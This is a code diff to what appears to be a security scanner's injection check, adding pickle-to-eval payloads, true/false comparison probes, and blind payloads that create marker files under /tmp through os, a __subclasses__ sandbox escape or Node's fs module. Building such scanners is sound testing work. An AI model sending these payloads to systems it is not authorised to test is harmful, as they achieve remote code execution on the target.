@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import base64
+import re
+import zlib
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from functools import partial
@@ -11,6 +13,7 @@ from mcpweb.plugin import CheckResult, Severity
 
 from . import marks
 from .attack import Attack, Family, declared
+from .sql import same
 
 CHECK = "D05"
 CODE = (
@@ -64,8 +67,18 @@ def _plain_javascript(frame: str) -> Callable[[], tuple[str, str]]:
 
 def _pickle() -> tuple[str, str]:
     a, b, c = marks.number(9), marks.number(9), marks.number(9)
-    code = f"({a}).__class__({b}).__xor__({c})"
-    return base64.b64encode(f"cbuiltins\neval\n(V{code}\ntR.".encode()).decode(), str(b ^ c)
+    return base64.b64encode(_pickled(f"({a}).__class__({b}).__xor__({c})")).decode(), str(b ^ c)
+
+
+def _pickled(code: str) -> bytes:
+    return f"cbuiltins\neval\n(V{code}\ntR.".encode()
+
+
+PICKLES: tuple[Callable[[str], str], ...] = (
+    lambda code: base64.urlsafe_b64encode(_pickled(code)).decode(),
+    lambda code: base64.b64encode(zlib.compress(_pickled(code))).decode(),
+    lambda code: _pickled(code).hex(),
+)
 
 
 FIRST = (
@@ -80,6 +93,7 @@ FIRST = (
     Trick("a JavaScript expression", _javascript("{x}")),
     Trick("a JavaScript expression", _plain_javascript("{x}")),
     Trick("a JavaScript expression in a template", _javascript("{{{x}}}")),
+    Trick("a pickled object", _pickle),
 )
 FURTHER = (
     Trick("a Python expression after a single quote", _python("'+str({x})+'")),
@@ -112,7 +126,6 @@ FURTHER = (
     Trick("a YAML tag that calls", _python("!!python/object/apply:builtins.eval ['{x}']")),
     Trick("a YAML tag with a function", _javascript("!!js/function 'function(){return {x}}'")),
     Trick("a function in JSON", _plain_javascript('{"a":"_$$ND_FUNC$$_function(){throw new Error({x})}()"}')),
-    Trick("a pickled object", _pickle),
 )
 
 
@@ -121,9 +134,118 @@ def _in_hexadecimal(frame: str) -> tuple[str, str]:
     return frame.replace("{x}", str(a)), f"{a:x}"
 
 
+CONDITIONS = (  # {w} a text, {W} the same in capitals: who can tell has called a method of it; words and lengths are the same
+    ("a Python expression", '"{w}".upper()=="{W}"', '"{w}".lower()=="{W}"'),
+    ("a Python expression after a valid value", '{v} and "{w}".upper()=="{W}"', '{v} and "{w}".lower()=="{W}"'),
+    ("a Python expression after a valid value", '{v} or "{w}".upper()=="{W}"', '{v} or "{w}".lower()=="{W}"'),
+    ("a JavaScript expression", '"{w}".toUpperCase()=="{W}"', '"{w}".toLowerCase()=="{W}"'),
+)
+_FOUND_OPEN = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__"
+BLIND = (  # {a}*{b}: what is made is called by their product
+    "__import__('os').mkdir('/tmp/q'+str({a}*{b}))",
+    f"{_FOUND_OPEN}['open']('/tmp/q'+str({{a}}*{{b}}),'w')",
+    "process.mainModule.require('fs').mkdirSync('/tmp/q'+{a}*{b})",
+)
+_PLACED = re.compile(r"\{(\w{1,40}(?:\.\w{1,40}|\[\w{1,40}\]){0,3})(?:![rsa])?(?::[^{}\n]{0,20})?\}")
+_BETWEEN = re.compile(r"([{\[<($%#@|^~=]{1,3})\s?[A-Za-z_][\w.]{0,40}(?:\s?[+*/-]\s?[\w.]{1,20})?\s?([}\]>)$%#@|^~=]{1,3})")
+_TRIED = {("{{", "}}"), ("${", "}"), ("<%=", "%>"), ("#{", "}"), ("{", "}"), ("(", ")")}
+MOST_PLACED, MOST_BETWEEN = 6, 4
+
+
 def first(attack: Attack) -> Iterator[CheckResult | None]:
-    """Try the common templates, Python and JavaScript."""
-    yield from _each(attack, FIRST)
+    """Try the common templates and what the server calls one, Python and JavaScript, then what shows elsewhere or in part."""
+    weak: CheckResult | None = None
+    for verdict in _each(attack, (*FIRST, *_own(attack))):
+        if verdict is not None and verdict.severity != "high":
+            yield verdict
+            return
+        weak = weak or verdict
+    for way, true, false in CONDITIONS if weak is None else ():
+        verdict = _condition(attack, way, true, false)
+        if verdict is not None:
+            yield verdict
+            return
+    frames: tuple[str | Callable[[str], str], ...] = (*BLIND, *PICKLES)
+    for frame in frames:
+        _blind(attack, frame)
+    yield weak
+
+
+def _own(attack: Attack) -> tuple[Trick, ...]:
+    """Return tricks in the words of the server: between the signs that its texts put around names, and on these names."""
+    said = " ".join([str(attack.point.surface.definition), str(attack.point.schema), attack.valid, attack.lab.said[-4000:]])
+    signs = [(a, b) for a, b in dict.fromkeys(_BETWEEN.findall(said)) if len(a) == len(b)]
+    between = [one for one in signs if one not in _TRIED][:MOST_BETWEEN]
+    found = [trick for a, b in between for trick in (
+        Trick(f"a Python expression between {a} and {b}", _python(f"{a}{{x}}{b}")),
+        Trick(f"a JavaScript expression between {a} and {b}", _javascript(f"{a}{{x}}{b}")),
+        Trick(f"a template between {a} and {b}", _product(f"{a}{{x}}{b}"), code=False),
+    )]
+    names = list(dict.fromkeys(name for one in _PLACED.findall(said) for name in (one, one.partition(".")[0].partition("[")[0])))
+    return (*found, *(
+        Trick("a format that reads attributes", partial(_attribute, name), severity="high") for name in names[:MOST_PLACED]
+    ))
+
+
+def _condition(attack: Attack, way: str, true: str, false: str) -> CheckResult | None:
+    """Compare answers to three conditions that hold and three that do not, which only who runs them can tell apart."""
+    seen: dict[bool, list[tuple[str, str]]] = {True: [], False: []}
+    for _ in range(3):
+        word = marks.token(8)
+        for truth, frame in ((True, true), (False, false)):
+            sent = frame.replace("{v}", attack.valid).replace("{w}", word).replace("{W}", word.upper())
+            reply = attack.send(sent)
+            answer = same(attack, reply, sent)
+            if not reply.answered or word in answer or word.upper() in answer:
+                return None
+            seen[truth].append((sent, answer))
+        true_, false_ = ({answer for _, answer in answers} for answers in seen.values())
+        if len(true_) > 1 or len(false_) > 1 or true_ == false_:
+            return None
+    known = declared(attack.point, CODE)
+    sent, answer = seen[True][-1]
+    return attack.fail(
+        CHECK,
+        f"A value in {attack.point.pointer} is evaluated as {way}: answers follow whether what it calls comes out true"
+        f"{', as the tool says of itself' if known else ''}.",
+        sent=sent,
+        severity="medium" if known else None,
+        next_step=FIX,
+        way="boolean difference",
+        true={"sent": sent, "answer": answer[:400]},
+        false={"sent": seen[False][-1][0], "answer": seen[False][-1][1][:400]},
+        repeated=3,
+    )
+
+
+def _blind(attack: Attack, frame: str | Callable[[str], str], again: bool = False) -> tuple[str, str]:
+    """Send code that makes a file or folder named by a product; return what was sent and the name."""
+    a, b = marks.number(), marks.number()
+    code = (frame if isinstance(frame, str) else BLIND[0]).replace("{a}", str(a)).replace("{b}", str(b))
+    sent = code if isinstance(frame, str) else frame(code)
+    mark = f"q{a * b}"
+    if not again:
+        attack.hope(CHECK, mark, "path", "unseen", lambda other: _blind_again(other, frame))
+    attack.send(sent)
+    return sent, mark
+
+
+def _blind_again(attack: Attack, frame: str | Callable[[str], str]) -> CheckResult | None:
+    sent, mark = _blind(attack, frame, again=True)
+    path = next((path for path in attack.stand.changed() if mark in path), "")
+    if not path:
+        return None
+    known = declared(attack.point, CODE)
+    return attack.fail(
+        CHECK,
+        f"A value in {attack.point.pointer} is run as code, unseen in the answer: {path} was made"
+        f"{', as the tool says of itself' if known else ''}.",
+        sent=sent,
+        severity="medium" if known else None,
+        next_step=FIX,
+        way="unseen",
+        file=path,
+    )
 
 
 def more(attack: Attack) -> Iterator[CheckResult | None]:
